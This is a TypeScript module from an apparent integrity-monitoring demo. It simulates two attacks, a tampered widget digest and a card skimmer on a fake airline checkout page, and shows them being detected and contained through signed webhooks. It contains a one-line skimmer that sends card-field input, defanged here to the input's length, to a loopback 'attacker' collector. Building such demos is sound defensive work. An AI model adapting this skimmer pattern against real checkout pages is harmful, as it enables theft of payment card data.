import { timingSafeEqual } from 'node:crypto'
import type { Containment, IntegrityAlarm } from '@candor/protocol/integrity-api.ts'
import type { FastifyInstance } from 'fastify'
import type { Clock } from '../clock.ts'
import { signatureHeader, signDelivery } from '../integrity/containment/webhook-signature.ts'
import type { WebhookEvent } from '../integrity/containment/webhook.ts'
import type { TourLine } from './describe-event.ts'

/** What somebody of the tour breaks. */
export type Tamper = 'widget' | 'skimmer'

/**
 * The tour's break-in: a byte of the widget altered on its way, or a skimmer in the airline's checkout page. Nothing of
 * the answer to it is played: browsers report, alarms are raised, the playbook contains, and the airline's own web shop
 * is told by its webhook and takes the script out.
 */
export interface Tampering {
  begin(kind: Tamper): void
  /** Everything as it was. */
  end(): void
  now(): Tamper | null
  /** The text of `release.json` as this installation's altered CDN gives it. */
  bundle(text: string): string
  /** The tag in the page's head, and whether the page goes out without its policy: who can do one can do the other. */
  inPage(path: string): { tag: string } | null
  /** The attacker's host, and where the airline's shop hears of alarms. */
  routes(app: FastifyInstance): void
  /** What the webhook's deliveries are signed with. */
  webhook: { path: string; secret(value: string): void }
  close(): void
}

export const attackedPage = '/aurora-air/checkout'
const webhookPath = '/aurora-air/candor-webhook'
const livePath = '/aurora-air/live'
const skimmerPath = '/statics/s.js'
const collectorPath = '/statics/c'
/** A delivery that was recorded is not taken again later. */
const deliveryMsMax = 5 * 60_000
/** Tabs of the airline's pages that are told to load again; a tour has some. */
const tabsMax = 200

export function openTampering(options: {
  clock: Clock
  /** Origin of the demo sites. */
  sitesUrl(): string
  tell(line: TourLine): void
}): Tampering {
  const { clock, tell } = options
  const tabs = new Set<NodeJS.WritableStream>()
  let kind: Tamper | null = null
  let beganAt = 0
  let secret = ''
  let stolen = 0
  let stolenAfter = 0
  let containedAt: number | null = null
  const told = new Set<string>()

  const seconds = (): string => `${((clock.now() - beganAt) / 1_000).toFixed(1)} s`
  /** Loopback has two names, and to a browser they are two hosts. */
  const attackersOrigin = (): string => {
    const url = new URL(options.sitesUrl())
    if (url.hostname === '127.0.0.1') url.hostname = 'localhost'
    else if (url.hostname === 'localhost') url.hostname = '127.0.0.1'
    return url.origin
  }

  function heard(event: WebhookEvent): void {
    if (kind === null) return
    if (event.type === 'alarm') {
      const { alarm } = event
      if (!concerns(alarm, kind) || told.has(alarm.id)) return
      told.add(alarm.id)
      tell({ kind: 'alarm', title: `Alarm after ${seconds()}.`, detail: alarm.what })
      return
    }
    const { containment, step } = event
    if (step !== 'begun' || told.has(containment.id)) return
    told.add(containment.id)
    containedAt = clock.now()
    tell({ kind: 'handler', ...contained(containment, seconds()), step: 4 })
    if (kind === 'skimmer') {
      // What a shop does that hears of it: out with the script, and every open tab is loaded anew.
      kind = null
      for (const tab of tabs) tab.write('data: reload\n\n')
      tell({
        kind: 'page',
        title: `The airline took the script out after ${seconds()}.`,
        detail: `Its web shop was told by a signed webhook. ${stolenSoFar(stolen)} before that.`,
      })
    }
  }

  return {
    begin(what) {
      kind = what
      beganAt = clock.now()
      containedAt = null
      stolen = stolenAfter = 0
      told.clear()
      tell(
        what === 'widget'
          ? {
              kind: 'alarm',
              title: 'A byte of the widget was altered.',
              detail: 'In the release that loaders are given. Open the chat on the airline’s page.',
            }
          : {
              kind: 'alarm',
              title: 'A skimmer is in the airline’s checkout page.',
              detail: 'It sends what is typed into the card field to another host, at every key.',
            },
      )
      for (const tab of tabs) tab.write('data: reload\n\n')
    },

    end() {
      kind = null
      for (const tab of tabs) tab.write('data: reload\n\n')
    },

    now: () => kind,

    bundle(text) {
      if (kind !== 'widget') return text
      // One character of the digest of a script: what an attacker would put in is another one.
      return text.replace(/sha384-([A-Za-z0-9])/, (_, first: string) => `sha384-${first === 'A' ? 'B' : 'A'}`)
    },

    inPage: (path) =>
      kind === 'skimmer' && path === attackedPage
        ? { tag: `<script src="${attackersOrigin()}${skimmerPath}"></script>` }
        : null,

    routes(app) {
      app.get(skimmerPath, (_, reply) =>
        reply
          .headers({ 'cache-control': 'no-store', 'cross-origin-resource-policy': 'cross-origin' })
          .type('text/javascript')
          .send(skimmer(attackersOrigin() + collectorPath)),
      )
      app.get(collectorPath, (_, reply) => {
        // Counted and forgotten: what was typed is not looked at.
        if (containedAt === null) stolen++
        else if (++stolenAfter === 1)
          tell({
            kind: 'alarm',
            title: 'A request reached the attacker after all.',
            detail: `It came ${((clock.now() - containedAt) / 1_000).toFixed(1)} s after the page was contained.`,
          })
        return reply
          .headers({ 'access-control-allow-origin': '*', 'cache-control': 'no-store' })
          .code(204)
          .send()
      })
      app.get(livePath, (request, reply) => {
        if (tabs.size >= tabsMax) return reply.code(503).send()
        reply.hijack()
        const { raw } = reply
        raw.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' })
        raw.write(':\n\n')
        tabs.add(raw)
        request.raw.on('close', () => tabs.delete(raw))
        return reply
      })
      void app.register(async (hooks) => {
        // The signature is over the body as it came.
        hooks.addContentTypeParser('application/json', { parseAs: 'string' }, (_, body, done) =>
          done(null, body),
        )
        hooks.post<{ Body: string }>(webhookPath, (request, reply) => {
          const given = String(request.headers[signatureHeader.toLowerCase()] ?? '')
          if (!isSigned(given, request.body, secret, clock.now())) return reply.code(401).send()
          heard(JSON.parse(request.body) as WebhookEvent)
          return reply.code(204).send()
        })
      })
    },

    webhook: { path: webhookPath, secret: (value) => void (secret = value) },

    close() {
      for (const tab of tabs) tab.end()
    },
  }
}

function isSigned(given: string, body: string, secret: string, nowMs: number): boolean {
  const [, t] = /^t=(\d{1,12}),v1=[0-9a-f]{64}$/.exec(given) ?? []
  if (t === undefined || secret === '' || Math.abs(nowMs - Number(t) * 1_000) > deliveryMsMax) return false
  const expected = Buffer.from(signDelivery(secret, Number(t) * 1_000, body))
  const shown = Buffer.from(given)
  return shown.length === expected.length && timingSafeEqual(shown, expected)
}

function concerns(alarm: IntegrityAlarm, kind: Tamper): boolean {
  return kind === 'widget'
    ? alarm.kind === 'release-unverified'
    : alarm.script?.includes(skimmerPath) === true
}

function contained(containment: Containment, after: string): { title: string; detail: string } {
  return {
    title: `Contained after ${after}, by the playbook.`,
    detail: `The chat is switched off ${
      containment.scope.kind === 'template' ? 'on this page' : 'on the airline’s pages'
    }; entry #${containment.entry} of the access log says so.`,
  }
}

function stolenSoFar(requests: number): string {
  return requests === 1 ? 'One request reached the attacker' : `${requests} requests reached the attacker`
}

/** The attack of 2017 in one line: at every key, what is in the card field goes to another host. */
function skimmer(collector: string): string {
  return `addEventListener('input',e=>{if(/^cc-/.test(e.target.autocomplete))fetch(${JSON.stringify(`${collector}?d=`)}+e.target.value.length)},true)
`
}
